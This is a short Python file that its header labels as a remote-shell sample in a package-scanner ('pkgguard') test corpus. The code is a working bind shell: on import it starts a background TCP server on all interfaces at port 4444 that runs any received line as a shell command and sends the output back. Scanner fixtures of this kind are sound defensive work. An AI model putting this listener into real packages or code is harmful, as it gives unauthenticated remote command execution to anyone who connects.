# pkgguard corpus 265 (remote-shell), modelled on [taxonomy]; inert, never run.
import socketserver
import subprocess
import threading


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            out = subprocess.run(line.decode(), shell=True, capture_output=True)
            self.wfile.write(out.stdout + out.stderr)


server = socketserver.ThreadingTCPServer(("0.0.0.0", 4444), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
